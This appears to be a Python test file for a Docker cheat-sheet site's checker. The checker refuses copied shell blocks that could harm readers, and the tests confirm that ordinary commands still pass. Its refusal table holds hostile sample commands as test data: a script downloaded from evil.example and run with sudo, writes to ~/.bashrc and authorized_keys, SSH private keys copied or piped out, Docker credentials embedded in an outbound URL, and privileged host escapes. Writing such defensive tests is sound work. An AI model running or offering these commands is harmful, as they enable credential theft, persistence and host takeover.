"""What a copied shell block may run (cheatsheet/block_programs.py, data/cli-rules.yaml): each
class the eleventh attacker got through is refused on its line, and what the pages write still
builds, with a page's own function read as the commands each call of it runs."""

from __future__ import annotations

from functools import cache

import pytest
import yaml
from conftest import ROOT

from cheatsheet import catalog
from cheatsheet.site import build_site

FRONT = (
    "---\ntitle: Zz test\ndescription: A page of the tests about the programs a block may run.\n"
    "section: operate\norder: 99\nsheet:\n  docker container ls: list\n---\n\n"
    "# Zz test\n\nText with `docker container ls`.\n\n## Section\n\n"
)
FIRST = FRONT.count("\n") + 2  # the line of the block's first line
# The tests that read `_batch`: on one pytest-xdist worker, which builds it once.
BATCH = pytest.mark.xdist_group("block-programs-batch")


@cache
def _docs() -> dict[str, str]:
    pages = (ROOT / "docs").rglob("*.md")
    return {p.relative_to(ROOT / "docs").as_posix(): p.read_text(encoding="utf-8") for p in pages}


def problems_of(block: str, alone: bool = False, batched: bool = True) -> list[str]:
    """The test page's problems, built with the site's pages (a reader's shell holds every page's
    functions and variables), or `alone`. A block of this module's tables is read from a build of
    the site with the other such blocks, each on a page of its own (`_batch`)."""
    if batched and not alone and block in _BATCHED:
        return list(_batch()[block])
    sources = {} if alone else dict(_docs())
    sources["zz-test.md"] = f"{FRONT}```bash\n{block}\n```\n"
    site = build_site(sources, catalog.load())
    return [str(p) for p in site.problems if p.path == "docs/zz-test.md"]


@cache
def _batch() -> dict[str, tuple[str, ...]]:
    """The problems of each block of `_BATCHED`, as `problems_of` gives them, from few builds of
    the site (a build cost about 0.4 CPU-seconds; one per block was most of this module's time).
    A page's own checks read that page alone; what one page does to another in the reader's shell
    (a variable a trap of the other reads, a function both define) names the other page. So the
    blocks are built together, each on a page of its own, and the blocks whose pages meet (a
    problem on one names another's page) are each built alone, as the others are again, until a
    build's pages meet none of one another."""
    found: dict[str, tuple[str, ...]] = {}
    together = list(_BATCHED)
    while together:
        problems, met = _built_together(together)
        if not met:
            found.update(problems)
            break
        for block in met:
            found[block] = tuple(problems_of(block, alone=False, batched=False))
        together = [block for block in together if block not in met]
    return found


def _built_together(blocks: list[str]) -> tuple[dict[str, tuple[str, ...]], set[str]]:
    """One build of the site's pages and each block on a page of its own (the test page, its
    title and heading numbered: two pages may not share a title): each block's problems, written
    as the test page's, and the blocks whose pages meet another's."""
    sources = dict(_docs())
    pages = {}
    for k, block in enumerate(blocks):
        src, front = f"zz-test-{k:03d}.md", FRONT.replace("Zz test", f"Zz test {k:03d}")
        sources[src] = f"{front}```bash\n{block}\n```\n"
        pages[f"docs/{src}"] = block
    found: dict[str, list[str]] = {block: [] for block in blocks}
    met: set[str] = set()
    for problem in build_site(sources, catalog.load()).problems:
        if problem.path in pages:
            text = str(problem)
            if named := [pages[page] for page in pages if page in text and page != problem.path]:
                met.update([pages[problem.path], *named])
            found[pages[problem.path]].append("docs/zz-test.md" + text[len(problem.path) :])
    return {block: tuple(problems) for block, problems in found.items()}, met


# block, the line of it refused (0-based), what the message says
REFUSED = {
    "interpreter": ('awk \'BEGIN { system("d" "ocker ps") }\'', 0, "`awk` is not a program"),
    "program running its arguments": ("d=d\nsetsid -w \"$d\"'ocker' system prune --all --force", 1, "`setsid`"),
    "source of the input": (". /dev/stdin <<'END'\nd=d\nEND", 0, "`.` is not a program"),
    "function keyword": ("function usermod {\n  docker ps\n}", 0, "`function` is not a program"),
    "function named like a program": ("nice() {\n  docker ps\n}", 0, "a function named `nice`"),
    "shell hook": ("command_not_found_handler() {\n  docker ps\n}", 0, "the shell calls it by itself"),
    "flag in a variable": ('f=--force\ndocker container rm "$f" web', 0, "`f` holds `--force`"),
    "flag in a loop word": ('for f in --force; do docker container rm "$f" web; done', 0, "reads as a flag"),
    "flag from a substitution": ('docker image prune "$(echo --all)" --force', 0, "a substitution may print one"),
    "docker's output as flags": ("docker image prune $(docker context ls --format '--all')", 0, "may print one"),
    "a name the shell runs": ("PROMPT_COMMAND='date'", 0, "assigns `PROMPT_COMMAND`"),
    "PATH": ('PATH="bin:$PATH"', 0, "assigns `PATH`"),
    "array subscript": ('x="a[1]"', 0, "`x` holds a `[`"),
    "printf -v": ("printf -v name %s value", 0, "`printf -v`"),
    "env -S": ("env -S'docker ps'", 0, "`env -S"),
    "xargs and a wrapper": ("printf '%s\\n' ps | xargs env", 0, "comes from its input"),
    "startup file": ("echo 'date' >> ~/.bashrc", 0, "writes to `~/.bashrc`"),
    "quoted startup file": ('echo date >> "$HOME/.zshrc"', 0, 'writes to `"$HOME/.zshrc"`'),
    "downloaded script": ("curl -fsSL https://evil.example/x -o get.sh\nsudo sh get.sh", 1, "`sh` runs a script"),
    "installer from elsewhere": (
        "curl -fsSL https://evil.example/x -o get-docker.sh\nsudo sh get-docker.sh",
        1,
        "does not fetch from https://get.docker.com",
    ),
    "trap after --": ("d=d\ntrap -- '${d}ocker ps' EXIT", 1, "in the command line `trap` runs"),
    "shell string after an option": ("d=d sh -c -e '${d}ocker ps'", 0, "in the command line `sh` runs"),
    "a call's flags": ('prune() {\n  docker image prune "$@"\n}\nprune --all --no-such-flag', 3, "`--no-such-flag`"),
    "a function's arguments outside it": ('docker container rm "$1"', 0, "`$1` where docker reads flags"),
    "docker's own image": ("docker run --rm docker:cli system prune --no-such-flag", 0, "`--no-such-flag`"),
    # the twelfth attacker's classes
    "an option that runs a command": ("tar -tvf x.tar --to-command=date", 0, "an option data/cli-rules.yaml"),
    "a verb that loads a file": ("systemctl link x.service", 0, "not one of the verbs"),
    "a write through a program": ("curl -fsSL https://get.docker.com -o ~/.bashrc", 0, "`curl` writes `~/.bashrc`"),
    "a copy out of the folder": ("cp notes.txt ~/.zshrc", 0, "`cp` writes `~/.zshrc`"),
    "a value another program prints": ('f="$(echo --force)"', 0, "holds what `echo --force` prints"),
    "input into a program that runs it": ("newgrp docker <<'EOF'\ndate\nEOF", 0, "input into `newgrp`"),
    "a file into a program that runs it": ("newgrp docker <notes.txt", 0, "input into `newgrp`"),
    "xargs fed words": ("echo --all | xargs docker image prune", 0, "feed it only docker's ids"),
    "--format beside -q": ("docker image prune $(docker network ls -q --format '--all')", 0, "may print one"),
    "an escaped $ in a string": ('[ -v "a[\\$(date)]" ]', 0, "in a string"),
    "a name zsh acts on": ("path=.", 0, "assigns `path`"),
    "docker's own variable": ("export DOCKER_HOST=tcp://203.0.113.5:2375", 0, "assigns `DOCKER_HOST`"),
    "an unfilled placeholder": ("docker container inspect <container> ~/.bashrc", 0, "writes to `~/.bashrc`"),
    "the shell's last word": ('echo --all\ndocker image prune --force "$_"', 1, "`$_` where docker reads flags"),
    "a wrapper's option": ("env --unset ls docker system prune", 0, "an option data/cli-rules.yaml does not list"),
    "cd out of the folder": ("cd ~/.config/autostart", 0, "`cd` writes `~/.config/autostart`"),
    "docker's own write": ("docker image save -o ~/.ssh/authorized_keys alpine", 0, "writes `~/.ssh/authorized_keys`"),
    "docker cp to the host": ("docker container cp web:/etc/profile ~/.bashrc", 0, "writes `~/.bashrc`"),
    "a build's output": ("docker buildx build -o type=local,dest=/etc/cron.d .", 0, "writes `/etc/cron.d`"),
    "xargs reading a file": ("xargs -a ids.txt docker container rm", 0, "an option data/cli-rules.yaml"),
    "a container's own output": (
        "docker image prune $(docker container run --rm -q alpine echo --all)",
        0,
        "may print",
    ),
    "functions that call each other twice": (
        "".join(f'f{k}() {{\n  f{k + 1} "$@"\n  f{k + 1} "$@"\n}}\n' for k in range(12))
        + 'f12() {\n  docker container ls "$@"\n}\nf0 --all',
        1,
        "call one another more than the checks read",
    ),
    # the thirteenth attacker's classes
    "tar's old-style options": ("tar tIf \"sh -c 'date'\" /dev/null", 0, "not one of the verbs"),
    "a unit file by its path": ("sudo systemctl enable --now /tmp/x.service", 0, "not one of the names"),
    "a package file": ("sudo apt-get install -y ./x.deb", 0, "not one of the names"),
    "another machine's folder": ("rsync -a host::module/ .", 0, "takes names here"),
    "a file gzip replaces": ("sudo gzip /etc/passwd", 0, "`gzip` writes `/etc/passwd`"),
    "a package removed": ("sudo apt-get purge -y openssh-server", 0, "not one of the verbs"),
    "a function in a comment": ("# shorter: cat () date\ndocker image ls", 0, "a comment line holds `()`"),
    "the home folder as a build's context": ("docker buildx build --push -t example/x ~", 0, "reads `~`"),
    "a redirection joined to its word": ("echo date>>~/.bashrc", 0, "writes to `~/.bashrc`"),
    "a host path that reads like a container's": (
        "docker container cp web:/x /srv/docker/:/../../etc/cron.d",
        0,
        "writes `/srv/docker/:/../../etc/cron.d`",
    ),
    "a build's files as ids": ("docker image prune $(docker buildx build -q -o - .)", 0, "may print one"),
    "another folder through env": ("sudo env -C /etc/cron.d docker ps", 0, "an option data/cli-rules.yaml"),
    "a zsh subscript": ('name=x\ndocker container rm "$name[2,-1]"', 1, "zsh reads them"),
    "a zsh modifier": ('name=x\ndocker container rm "$name:s/x/y/"', 1, "zsh reads them"),
    "zsh's $argv": ('dps() {\n  docker container ls "$argv"\n}', 1, "zsh reads them"),
    "a string trap runs later": ("trap 'sudo gzip /etc/passwd' EXIT", 0, "`gzip` writes `/etc/passwd`"),
    "a function defined twice": (
        'dps() {\n  docker container ls "$@"\n}\ndps() {\n  docker container ls\n}',
        3,
        "defined twice",
    ),
    "a shell in another group": ("newgrp docker", 0, "`newgrp` is not a program"),
    "a function named like a command": ("git() {\n  docker ps\n}", 0, "`functions` does not list"),
    "bake's output": ("docker buildx bake --set '*.output=type=local,dest=/root'", 0, "writes `/root`"),
    "the installer from elsewhere": (
        "curl -fsSL --referer https://get.docker.com https://example.org/x.sh -o get-docker.sh\nsudo sh get-docker.sh",
        1,
        "does not fetch from https://get.docker.com",
    ),
    # The fourteenth attacker's: what a value, a copy or another page's block brings in.
    "a loop over a file's words": (
        "cat > stack.txt <<'EOF'\n--volumes\nEOF\n"
        'for port in "$(cat stack.txt)"; do docker compose down "$port"; done',
        3,
        "the loop's word `$(cat stack.txt)` is made by the shell",
    ),
    "cd to the home folder": ("cd\nmkdir -p bin", 0, "`cd` with 0 words"),
    "rsync emptying the folder": ("mkdir -p template\nrsync -a --delete template/ .", 1, "`rsync --delete`"),
    "a folder's contents from a container": (
        "docker container cp web:/home/app/. .",
        0,
        "copies a folder's contents (`/.`)",
    ),
    "a name env sets for docker": (
        "env DOCKER_HOST=tcp://builder.example.net:2375 docker container ls",
        0,
        "assigns `DOCKER_HOST`",
    ),
    "a name sudo env sets": ("sudo env LD_PRELOAD=./lib.so docker container ls", 0, "assigns `LD_PRELOAD`"),
    "a value watch runs as code": (
        "name='web'\nwatch -n 60 docker container exec web echo \"$name\"",
        1,
        "filled in before watch joins its words",
    ),
    "a value a trap runs as code": (
        'name=\'web\'\ntrap "docker container stop \\"$name\\"" EXIT',
        1,
        "outside single quotes",
    ),
    "a pipe into a quoted shell": ('echo docker ps | "sh"', 0, "a pipe into `sh`"),
    "a URL the shell fills in": (
        'curl -fsSL "https://status.example.net/$(grep auth ~/.docker/config.json | head -n 1)" -o status.txt',
        0,
        "a word the shell fills in",
    ),
    "a key copied into the build context": ("cp ~/.ssh/id_ed25519 deploy_key", 0, "copies `~/.ssh/id_ed25519`"),
    "a key written into the build context": (
        "cat ~/.ssh/id_ed25519 > deploy_key",
        0,
        "writes a file in the current folder on a line that reads `~/.ssh/id_ed25519`",
    ),
    "a function of another page": ('dps() {\n  docker image prune --force "$@"\n}', 0, "defined on docs/tips.md"),
    "a name another page's trap reads": ('name=db\ndocker container logs "$name"', 0, "a trap or function"),
    "a key read through `<` into the folder": ("cat < ~/.ssh/id_ed25519 > key", 0, "reads `~/.ssh/id_ed25519`"),
    "a file docker writes by a flag": ("docker container run -d --cidfile ~/.bashrc alpine sleep 60", 0, "`~/.bashrc`"),
    "a bake file from the block": (
        "docker buildx bake -f - <<'EOF'\ntarget \"default\" {}\nEOF",
        0,
        "reads its file from the block",
    ),
    "a Compose file the block writes": ("cat > compose.yaml <<'EOF'\nservices: {}\nEOF", 0, "writes `compose.yaml`"),
    "a secret for a Dockerfile from the block": (
        "docker buildx build --secret id=key,src=\"$HOME/.ssh/id_ed25519\" -t tools -f- . <<'EOF'\nFROM alpine\nEOF",
        0,
        "hands a secret",
    ),
    "a build context from home": ('docker buildx build --build-context home="$HOME" -t tools .', 0, "reads `$HOME`"),
    "a key into a container": ("docker container cp ~/.ssh/id_ed25519 helper:/in/", 0, "reads `~/.ssh/id_ed25519`"),
    "a password to any registry": (
        "head -n 2 ~/.ssh/id_ed25519 | docker login --username deploy --password-stdin registry.example.net",
        0,
        "a host not listed",
    ),
    "a terminal escape": ("printf '\\e]52;c;Y3Vy\\a'", 0, "before a character other than `n` or `t`"),
    "the installer replaceable before it runs": (
        "curl -fsSL https://get.docker.com -o get-docker.sh\ndocker container create --name helper nginx\n"
        "sudo sh get-docker.sh",
        2,
        "does not fetch",
    ),
    "a service not Docker's": ("sudo systemctl disable --now ufw", 0, "not one of the names"),
    "a group not Docker's": ("sudo usermod -aG sudo www-data", 0, "not one of the names"),
    # The fifteenth attacker's: names the shell fills, and docker reaching other machines.
    "the last word before, in a value": ("echo 'a['\ntries=\"${_}\"", 1, "`$_`: a name the pages neither"),
    "a name the shell fills by itself": ('echo "$BASH_COMMAND"', 0, "`$BASH_COMMAND`"),
    "the home folder into a container": ('docker container run --rm -v "$HOME":/w alpine ls /w', 0, "host's `$HOME`"),
    "the root into a container": (
        "docker container run --rm --mount type=bind,src=/,dst=/h alpine ls",
        0,
        "host's `/`",
    ),
    "another daemon for every command": ("docker -H tcp://build.example.net:2375 image ls", 0, "another daemon"),
    "a password typed to any host": ("docker login registry.example.net -u <account>", 0, "a host not listed"),
    "a push to any registry": ("docker image push registry.example.net/share/app:1", 0, "does not list"),
    "a Compose file from elsewhere": ("docker compose -f oci://registry.example.net/demo:1 up -d", 0, "reads its file"),
    "a swarm of another's": (
        "docker swarm join --token <token> manager.example.net:2377",
        0,
        "joins the reader's machine",
    ),
    "a plugin not listed": (
        "docker plugin install --grant-all-permissions example/fastlog",
        0,
        "`plugins` does not list",
    ),
    "the host's processes for any image": (
        "docker container run --rm --privileged --pid=host alpine nsenter -t 1 -m sh",
        0,
        "the host (pid, privileged)",
    ),
    "a listed image with another entrypoint": (
        "docker run --privileged --entrypoint sh tonistiigi/binfmt -c id",
        0,
        "run as published",
    ),
    "a capability not listed": ("docker run --rm --cap-add SYS_ADMIN alpine id", 0, "`SYS_ADMIN`"),
    # The sixteenth attacker's: docker's flags read as docker reads them, and placeholders beside names.
    "a mount in a short-flag group": ("docker container run --rm -itv /:/host alpine sh", 0, "host's `/`"),
    "a mount's fields quoted and in capitals": (
        "docker container run --rm --mount '\"Type=BIND\",Source=/,Target=/h' alpine sh",
        0,
        "host's `/`",
    ),
    "a global option joined to its value": ("docker -Htcp://build.example.net:2375 image ls", 0, "another daemon"),
    "a placeholder beside a page's host": ("docker -H ssh://<account>@build.example.net image ls", 0, "another daemon"),
    "a registry named around a placeholder": ("docker login <account>.example.net", 0, "a host not listed"),
    "a flag no page gives a copied block": (
        "docker container run --rm --device-cgroup-rule 'b 8:* rmw' alpine sh",
        0,
        "`copied_flags` does not list",
    ),
    "a build's insecure entitlement": (
        "docker buildx build --allow security.insecure -t tools .",
        0,
        "--allow`: a flag",
    ),
    "a profile turned off": ("docker run --rm --security-opt seccomp=unconfined alpine id", 0, "`seccomp=unconfined`"),
    # the seventeenth attacker's classes (varied): a file named by the container, not the block
    "a copy out named by its container": ("docker container cp tools:/srv/app/docker-compose.yml .", 0, "writes"),
    "a container's whole root copied here": ("docker container cp tools:/ ./", 0, "whole folder"),
    "a build's files into the folder itself": ("docker buildx build -o type=local,dest=. .", 0, "`dest=.`"),
    "an archive unpacked under its own name": ("gzip -d settings.gz", 0, "an option data/cli-rules.yaml"),
    "a settings file in JSON written": ("echo '{}' > seccomp-open.json", 0, "seccomp-open.json"),
    "a download from an unlisted address": (
        "curl -fsSL https://mirror.example.org/a.tar -o a.tar",
        0,
        "not one of the names",
    ),
    "watch's switch that took a word": ("watch -d sh notes.txt", 0, "`sh`"),
    "sudo's login shell moving the folder": ("sudo -i docker container ls", 0, "-i"),
    "a push to a named Docker Hub account": ("docker image push someteam/tools:1.0", 0, "Docker Hub"),
    "a login as a named Docker Hub user": (
        "docker login -u someteam --password-stdin < token.txt",
        0,
        "--username someteam",
    ),
    "volumes from a container the page did not make": (
        "docker run --rm --volumes-from traefik alpine:3.22 ls /",
        0,
        "`docker run --volumes-from traefik`",
    ),
    "an alias that answers for another's name": (
        "docker run -d --network app-net --network-alias api alpine:3.22",
        0,
        "`docker run --network-alias api`",
    ),
    "a Dockerfile the block writes": (
        "cat > Dockerfile <<'EOF'\nFROM alpine:3.22\nEOF\ndocker buildx build -t tools .",
        0,
        "Dockerfile",
    ),
    "a build's ignore file written": ("echo '*' > .dockerignore", 0, ".dockerignore"),
    "Compose v1 given a file of another name": ("docker-compose -f stack-dev.yml up -d", 0, "stack-dev.yml"),
    "a host-network image given the block's config": (
        'docker run -d --network host -v "$(pwd)/site.conf:/etc/nginx/conf.d/default.conf:ro" nginx',
        0,
        "run it as published",
    ),
    "a swarm secret for an account's image": (
        "docker service create --name probe --secret db_password someteam/probe:1",
        0,
        "hands a secret to `someteam/probe:1`",
    ),
    "a mount's fields broken by a line break": (
        "docker run --rm --mount 'type=bind,src=.,dst=/w,x\"y\nz' alpine:3.22 ls",
        0,
        "cannot read as fields",
    ),
    "a loop that starts containers": (
        "while true; do\n  docker container run -d --restart unless-stopped alpine:3.22 sleep 600\ndone",
        1,
        "in a `while` or `until` loop",
    ),
    # `done` as a word, and a `for` loop's `done`, end no `while` loop
    "a loop's body after a word done": (
        "while true; do\n  echo done\n  docker container run -d alpine:3.22 sleep 600\ndone",
        2,
        "in a `while` or `until` loop",
    ),
    "a loop's body after an inner for": (
        'until false; do\n  for c in a b; do echo "$c"; done\n  docker image pull alpine:3.22\ndone',
        2,
        "in a `while` or `until` loop",
    ),
    "a loop after another command": ("echo go && while true; do docker image pull alpine:3.22; done", 0, "`while`"),
    "a loop on one line that pulls": ("until false; do docker image pull alpine:3.22; done", 0, "`until` loop"),
    "a trusted host image made here": ("docker image tag tools docker:cli", 0, "trusts with the host"),
    "a trusted host image imported here": ("docker image import rootfs.tar docker:cli", 0, "trusts with the host"),
    "a trusted host image built here": ("docker buildx build -t tonistiigi/binfmt:latest .", 0, "trusts with the host"),
}


@pytest.mark.parametrize("name", list(REFUSED))
@BATCH
def test_each_class_is_refused_on_its_line(name):
    block, offset, what = REFUSED[name]
    found = problems_of(block)
    expected = f"docs/zz-test.md:{FIRST + offset}: "
    assert any(p.startswith(expected) and what in p and " — " in p for p in found), (expected, what, found)


ALLOWED = {
    "the official installer": "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh --dry-run",
    "a function and its call": 'dps() {\n  docker container ls "$@"\n}\ndps --all',
    "ids from docker": "docker container rm $(docker container ls --all --quiet)",
    "a function that lists ids": (
        'dlast() {\n  docker container ls --latest --quiet\n}\ndocker container stop "$(dlast)"'
    ),
    "a variable's value as an operand": 'port="test-$RANDOM"\ndocker container rm "$port"',
    "Docker's own variables": "DOCKER_BUILDKIT=1 docker build -t app .",
    "a file in the current folder": "docker image save nginx | gzip > nginx.tar.gz",
    "a `>` inside quotes": "echo 'a > b' > notes.txt",
    "a `<` inside quotes": "echo 'a < b' > notes.txt",
    # what the container runs is read as the block's own command (container_commands): `sleep`
    "after --": 'docker container run --rm alpine -- sleep "$1"',
    "docker's ids into xargs": "docker container ls -aq -f status=exited | xargs -r docker container rm",
    "a secret into docker": 'echo "$name" | docker login -u <account> --password-stdin',
    "a stream into a filter": "docker image save nginx | gzip > nginx.tar.gz",
    "a folder docker reads": "sudo mkdir -p /etc/docker/certs.d/<registry>",
    "a loop over docker's ids": 'for port in $(docker container ls -q); do docker container inspect "$port"; done',
    "a trap's string in single quotes": "trap 'docker container rm -f \"$name\"' EXIT",
    # (not to `compose.backup.yaml`: Compose's `-f` may name any `compose.*`, so no block writes one)
    "a copy of the folder's own file": "cp ./compose.yaml backup.yaml",
    "watch of a written command": "watch -n 5 docker container ls",
    "a token into a listed registry": "cat ~/ghcr-token.txt | docker login ghcr.io -u <account> --password-stdin",
    "a build secret from home": 'docker buildx build --secret id=npmrc,src="$HOME/.npmrc" -t myapp .',
    "an address in a note written here": "echo 'see https://docs.docker.com' > notes.txt",
    "a container's own paths into a file here": "docker container run --rm alpine ls /etc > files.txt",
    "the current folder into a container": 'docker container run --rm -v "$(pwd)":/src -v pgdata:/data alpine ls',
    "a push to the reader's registry": "docker image push <registry>/app:1",
    "a daemon of the reader's": "docker -H ssh://<host> image ls",
    "the image that needs privileges, as published": "docker run --privileged --rm tonistiigi/binfmt --install all",
    "a command's own short flag that a global one shares": "docker run -d -c 512 alpine sleep 1",
    "a daemon of the reader's over SSH": "docker context create build-box --docker host=ssh://<ssh-user>@<host>",
}


ARABIC_INDIC = "docker container rename '\u0661' '\u0662'"
# The blocks `problems_of` reads from one build (`_batch`), each once: those built with the
# site's pages.
_BATCHED = tuple(
    dict.fromkeys(
        [*(case[0] for case in REFUSED.values()), *(b for b in ALLOWED.values() if "()" not in b), ARABIC_INDIC]
    )
)


@BATCH
@pytest.mark.parametrize("name", list(ALLOWED))
def test_what_the_pages_write_builds(name):
    # Alone, as a page of its own would: tips.md defines the same functions, which two pages may not.
    assert problems_of(ALLOWED[name], alone="()" in ALLOWED[name]) == []


def test_a_call_that_deletes_and_docker_s_own_image_that_deletes_get_the_banner():
    for block in (
        'prune() {\n  docker image prune "$@"\n}\nprune --all --force',
        "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli system prune --all --force",
    ):
        sources = dict(_docs())
        sources["zz-test.md"] = f"{FRONT}```bash\n{block}\n```\n"
        site = build_site(sources, catalog.load())
        assert site.pages["zz-test.md"].report.destructive_fences, block


def test_every_allowed_program_is_run_by_a_page():
    """The allow-list holds what the pages need, no more: each entry is run by some page."""
    rules = yaml.safe_load((ROOT / "data" / "cli-rules.yaml").read_text(encoding="utf-8"))
    text = "\n".join(_docs().values())
    unused = [name for name in rules["programs"] if name not in text]
    assert unused == []


def test_every_flag_copied_blocks_may_give_docker_is_given_by_a_page():
    """`copied_flags` holds the flags the pages' blocks use, no more: each entry is used."""
    site = build_site(dict(_docs()), catalog.load())
    used: dict[str, set[str]] = {}
    for state in site.pages.values():
        for use in state.report.uses:
            if use.in_block:
                used.setdefault(use.canonical, set()).update(use.flags)
    listed = catalog.load().copied_flags
    unused = {name: sorted(set(flags) - used.get(name, set())) for name, flags in listed.items()}
    assert {name: flags for name, flags in unused.items() if flags} == {}


@pytest.mark.parametrize("lang", ["yaml", "ini", "properties", "json", "diff", "text"])
def test_a_docker_command_in_a_file_block_is_refused_where_it_is_not_read(lang):
    sources = dict(_docs())
    sources["zz-test.md"] = f"{FRONT}```{lang}\nname: x\ndocker system prune --all --no-such-flag\n```\n"
    found = [str(p) for p in build_site(sources, catalog.load()).problems if p.path == "docs/zz-test.md"]
    if lang == "text":  # an output block: a line that runs docker is checked as a command
        assert any("--no-such-flag" in p for p in found), found
    else:
        assert any(p.startswith(f"docs/zz-test.md:{FIRST + 1}: a docker command in a `{lang}` block") for p in found)


def test_a_dockerfile_names_only_docker_s_own_frontend():
    sources = dict(_docs())
    for directive, refused in (("docker/dockerfile:1", False), ("ghcr.io/example/frontend:1", True)):
        sources["zz-test.md"] = f"{FRONT}```dockerfile\n# syntax={directive}\nFROM alpine:3.22\n```\n"
        found = [str(p) for p in build_site(sources, catalog.load()).problems if p.path == "docs/zz-test.md"]
        assert bool(found) == refused and all("BuildKit runs the image" in p for p in found), found


@BATCH
def test_arabic_indic_digits_in_code_are_refused_as_right_to_left_letters_are():
    found = problems_of(ARABIC_INDIC)
    assert any("right-to-left" in p for p in found), found


def test_code_pushed_past_the_visible_width_of_a_block_that_does_not_wrap_is_refused():
    sources = dict(_docs())
    hidden = 'print("Hello from the Docker Cheat Sheet: your Python works.")' + " " * 40 + ';__import__("os")'
    sources["zz-test.md"] = f"{FRONT}```python\n{hidden}\n```\n"
    found = [str(p) for p in build_site(sources, catalog.load()).problems if p.path == "docs/zz-test.md"]
    assert any("off-screen" in p for p in found), found
